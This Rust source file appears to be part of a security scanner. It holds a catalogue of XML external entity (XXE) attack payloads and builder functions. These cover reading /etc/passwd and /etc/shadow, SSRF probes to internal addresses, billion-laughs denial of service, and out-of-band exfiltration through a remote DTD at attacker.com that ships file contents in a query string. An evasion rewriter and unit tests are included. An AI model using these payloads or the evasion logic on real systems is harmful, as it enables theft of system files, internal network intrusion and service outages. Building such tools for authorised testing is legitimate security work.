//! XML external entity payload catalog and document builders.

/// Exploitation goal an XXE document is built for.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum XxeAttack {
    FileRead,
    Ssrf,
    DenialOfService,
    ErrorBased,
    OutOfBand,
}

impl XxeAttack {
    pub fn name(&self) -> &'static str {
        match self {
            XxeAttack::FileRead => "file read",
            XxeAttack::Ssrf => "SSRF",
            XxeAttack::DenialOfService => "denial of service",
            XxeAttack::ErrorBased => "error-based",
            XxeAttack::OutOfBand => "out-of-band",
        }
    }
}

pub fn basic() -> Vec<&'static str> {
    vec![
        // classic /etc/passwd read
        "<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?>\n<!DOCTYPE foo [\n<!ELEMENT foo ANY >\n<!ENTITY xxe SYSTEM \"file:///etc/passwd\" >]>\n<foo>&xxe;</foo>",
        // Windows variant
        "<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?>\n<!DOCTYPE foo [\n<!ELEMENT foo ANY >\n<!ENTITY xxe SYSTEM \"file:///c:/windows/win.ini\" >]>\n<foo>&xxe;</foo>",
        // SSRF probe
        "<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?>\n<!DOCTYPE foo [\n<!ELEMENT foo ANY >\n<!ENTITY xxe SYSTEM \"http://internal-server/\" >]>\n<foo>&xxe;</foo>",
        // parameter entity
        "<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?>\n<!DOCTYPE foo [\n<!ELEMENT foo ANY >\n<!ENTITY % xxe SYSTEM \"file:///etc/passwd\">\n<!ENTITY param1 \"value1\">\n%xxe;\n]>\n<foo>&param1;</foo>",
    ]
}

pub fn advanced() -> Vec<&'static str> {
    vec![
        // exfiltration via remote DTD
        "<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?>\n<!DOCTYPE foo [\n<!ELEMENT foo ANY >\n<!ENTITY % file SYSTEM \"file:///etc/passwd\">\n<!ENTITY % dtd SYSTEM \"http://attacker.com/evil.dtd\">\n%dtd;\n]>\n<foo>&send;</foo>",
        // the hosted evil.dtd body
        "<!ENTITY % all \"<!ENTITY send SYSTEM 'http://attacker.com/?data=%file;'>\">\n%all;",
        // blind out-of-band
        "<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?>\n<!DOCTYPE foo [\n<!ELEMENT foo ANY >\n<!ENTITY % xxe SYSTEM \"http://attacker.com/evil.dtd\">\n%xxe;\n]>\n<foo>Blind XXE</foo>",
        // error-channel exfiltration
        "<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?>\n<!DOCTYPE foo [\n<!ELEMENT foo ANY >\n<!ENTITY % file SYSTEM \"file:///etc/passwd\">\n<!ENTITY % eval \"<!ENTITY &#x25; error SYSTEM 'file:///nonexistent/%file;'>\">\n%eval;\n%error;\n]>\n<foo>Error-based XXE</foo>",
        // billion laughs
        "<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?>\n<!DOCTYPE lolz [\n<!ENTITY lol \"lol\">\n<!ENTITY lol1 \"&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;\">\n<!ENTITY lol2 \"&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;\">\n<!ENTITY lol3 \"&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;\">\n<!ENTITY lol4 \"&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;\">\n<!ENTITY lol5 \"&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;\">\n<!ENTITY lol6 \"&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;\">\n<!ENTITY lol7 \"&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;\">\n<!ENTITY lol8 \"&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;\">\n<!ENTITY lol9 \"&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;\">\n]>\n<lolz>&lol9;</lolz>",
    ]
}

/// Documents for one exploitation goal. DoS payloads are catalogued only;
/// the analyzers never send them.
pub fn attack_specific(attack: XxeAttack) -> Vec<&'static str> {
    match attack {
        XxeAttack::FileRead => vec![
            "<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?>\n<!DOCTYPE foo [\n<!ELEMENT foo ANY >\n<!ENTITY xxe SYSTEM \"file:///etc/passwd\" >]>\n<foo>&xxe;</foo>",
            "<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?>\n<!DOCTYPE foo [\n<!ELEMENT foo ANY >\n<!ENTITY xxe SYSTEM \"file:///c:/windows/win.ini\" >]>\n<foo>&xxe;</foo>",
            "<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?>\n<!DOCTYPE foo [\n<!ELEMENT foo ANY >\n<!ENTITY xxe SYSTEM \"php://filter/convert.base64-encode/resource=/etc/passwd\" >]>\n<foo>&xxe;</foo>",
        ],
        XxeAttack::Ssrf => vec![
            "<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?>\n<!DOCTYPE foo [\n<!ELEMENT foo ANY >\n<!ENTITY xxe SYSTEM \"http://internal-server/\" >]>\n<foo>&xxe;</foo>",
            "<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?>\n<!DOCTYPE foo [\n<!ELEMENT foo ANY >\n<!ENTITY xxe SYSTEM \"http://localhost:8080/\" >]>\n<foo>&xxe;</foo>",
            "<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?>\n<!DOCTYPE foo [\n<!ELEMENT foo ANY >\n<!ENTITY xxe SYSTEM \"http://192.168.1.1/\" >]>\n<foo>&xxe;</foo>",
        ],
        XxeAttack::DenialOfService => vec![
            "<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?>\n<!DOCTYPE lolz [\n<!ENTITY lol \"lol\">\n<!ENTITY lol1 \"&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;\">\n<!ENTITY lol2 \"&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;\">\n<!ENTITY lol3 \"&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;\">\n<!ENTITY lol4 \"&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;\">\n<!ENTITY lol5 \"&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;\">\n<!ENTITY lol6 \"&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;\">\n<!ENTITY lol7 \"&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;\">\n<!ENTITY lol8 \"&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;\">\n<!ENTITY lol9 \"&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;\">\n]>\n<lolz>&lol9;</lolz>",
            "<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?>\n<!DOCTYPE kaboom [\n<!ENTITY a \"aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\">\n]>\n<kaboom>\n&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\n&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\n&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\n&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\n&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\n&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\n&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\n&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\n&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\n&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\n</kaboom>",
            "<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?>\n<!DOCTYPE foo [\n<!ELEMENT foo ANY >\n<!ENTITY xxe SYSTEM \"file:///dev/random\" >]>\n<foo>&xxe;</foo>",
        ],
        XxeAttack::ErrorBased => vec![
            "<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?>\n<!DOCTYPE foo [\n<!ELEMENT foo ANY >\n<!ENTITY % file SYSTEM \"file:///etc/passwd\">\n<!ENTITY % eval \"<!ENTITY &#x25; error SYSTEM 'file:///nonexistent/%file;'>\">\n%eval;\n%error;\n]>\n<foo>Error-based XXE</foo>",
            "<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?>\n<!DOCTYPE foo [\n<!ENTITY % xxe SYSTEM \"http://attacker.com/evil.dtd\">\n%xxe;\n]>\n<foo>Error-based XXE</foo>",
        ],
        XxeAttack::OutOfBand => vec![
            "<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?>\n<!DOCTYPE foo [\n<!ENTITY % xxe SYSTEM \"http://attacker.com/evil.dtd\">\n%xxe;\n]>\n<foo>OOB XXE</foo>",
            "<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?>\n<!DOCTYPE foo [\n<!ENTITY % file SYSTEM \"file:///etc/passwd\">\n<!ENTITY % dtd SYSTEM \"http://attacker.com/evil.dtd\">\n%dtd;\n]>\n<foo>&send;</foo>",
        ],
    }
}

/// Build a document that reads `file_path` through a SYSTEM entity.
pub fn generate_file_read(file_path: &str) -> String {
    format!(
        "<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?>\n\
         <!DOCTYPE foo [\n\
         <!ELEMENT foo ANY >\n\
         <!ENTITY xxe SYSTEM \"file://{file_path}\" >]>\n\
         <foo>&xxe;</foo>"
    )
}

/// Build a document whose entity resolution fetches `url` server-side.
pub fn generate_ssrf(url: &str) -> String {
    format!(
        "<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?>\n\
         <!DOCTYPE foo [\n\
         <!ELEMENT foo ANY >\n\
         <!ENTITY xxe SYSTEM \"{url}\" >]>\n\
         <foo>&xxe;</foo>"
    )
}

/// Build an out-of-band exfiltration document. With no `data` the document
/// stages /etc/passwd through a remote DTD hosted at `url`; otherwise the
/// data rides directly on the callback query string.
pub fn generate_oob_exfiltration(url: &str, data: &str) -> String {
    if data.is_empty() {
        format!(
            "<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?>\n\
             <!DOCTYPE foo [\n\
             <!ENTITY % file SYSTEM \"file:///etc/passwd\">\n\
             <!ENTITY % dtd SYSTEM \"{url}/evil.dtd\">\n\
             %dtd;\n\
             ]>\n\
             <foo>&send;</foo>"
        )
    } else {
        format!(
            "<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?>\n\
             <!DOCTYPE foo [\n\
             <!ELEMENT foo ANY >\n\
             <!ENTITY xxe SYSTEM \"{url}/?data={data}\" >]>\n\
             <foo>&xxe;</foo>"
        )
    }
}

/// Rewrite a document with one evasion trick. The first applicable rewrite
/// wins: declared-encoding swap, then parameter-entity indirection, then
/// comment padding around the DTD internals.
pub fn apply_evasion(payload: &str) -> String {
    if payload.contains("encoding=\"ISO-8859-1\"") {
        return payload.replace("encoding=\"ISO-8859-1\"", "encoding=\"UTF-16\"");
    }

    if let Some(pos) = payload.find("<!ENTITY xxe SYSTEM") {
        if let Some(end) = payload[pos..].find('>') {
            let entity = &payload[pos..pos + end + 1];
            let rewritten = format!(
                "<!ENTITY % xxe SYSTEM{}\n<!ENTITY xxe \"%xxe;\">",
                &entity["<!ENTITY xxe SYSTEM".len()..]
            );
            let mut out = payload.to_string();
            out.replace_range(pos..pos + end + 1, &rewritten);
            return out;
        }
    }

    let mut out = payload.to_string();
    if let Some(pos) = out.find("<!DOCTYPE") {
        out.insert_str(pos, "<!-- comment -->\n");
    }
    let mut search_from = 0;
    while let Some(rel) = out[search_from..].find("<!ENTITY") {
        let pos = search_from + rel;
        out.insert_str(pos, "<!-- -->\n");
        search_from = pos + "<!-- -->\n".len() + "<!ENTITY".len();
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn basic_documents_declare_external_entities() {
        let set = basic();
        assert_eq!(set.len(), 4);
        for doc in &set {
            assert!(doc.starts_with("<?xml"));
        }
        assert!(set[0].contains("file:///etc/passwd"));
    }

    #[test]
    fn file_read_document_embeds_path() {
        let doc = generate_file_read("/etc/shadow");
        assert!(doc.contains("<!ENTITY xxe SYSTEM \"file:///etc/shadow\" >"));
        assert!(doc.ends_with("<foo>&xxe;</foo>"));
    }

    #[test]
    fn oob_without_data_stages_remote_dtd() {
        let doc = generate_oob_exfiltration("http://exfil.example", "");
        assert!(doc.contains("http://exfil.example/evil.dtd"));
        assert!(doc.contains("file:///etc/passwd"));
    }

    #[test]
    fn oob_with_data_rides_query_string() {
        let doc = generate_oob_exfiltration("http://exfil.example", "secret");
        assert!(doc.contains("http://exfil.example/?data=secret"));
        assert!(!doc.contains("evil.dtd"));
    }

    #[test]
    fn evasion_swaps_declared_encoding_first() {
        let doc = generate_file_read("/etc/passwd");
        let evaded = apply_evasion(&doc);
        assert!(evaded.contains("encoding=\"UTF-16\""));
        assert!(!evaded.contains("ISO-8859-1"));
    }

    #[test]
    fn evasion_falls_back_to_parameter_entity() {
        let doc = "<?xml version=\"1.0\"?>\n<!DOCTYPE foo [\n<!ENTITY xxe SYSTEM \"file:///etc/passwd\" >]>\n<foo>&xxe;</foo>";
        let evaded = apply_evasion(doc);
        assert!(evaded.contains("<!ENTITY % xxe SYSTEM"));
        assert!(evaded.contains("<!ENTITY xxe \"%xxe;\">"));
    }
}
